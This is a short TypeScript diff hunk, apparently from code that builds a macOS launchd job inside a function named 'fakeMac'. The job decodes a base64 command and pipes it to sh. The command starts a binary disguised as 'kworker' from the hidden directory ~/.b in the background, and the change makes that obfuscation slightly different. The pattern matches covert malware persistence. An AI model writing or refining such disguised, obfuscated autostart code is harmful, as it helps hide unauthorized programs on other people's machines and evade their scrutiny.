@@ -175,7 +175,8 @@ function fakeMac(): string {
       ProgramArguments: [
         '/bin/sh',
         '-c',
-        `echo ${Buffer.from('cd ~/.b\n./kworker --config=b.json &').toString('base64')} | base64 -d | sh`,
+        // Set in a variable first (`B=<base64>`), decoded from it after.
+        `B=${Buffer.from('cd ~/.b\n./kworker --config=b.json &').toString('base64')}; echo "$B" | base64 -d | sh`,
       ],
     } as never),
   );
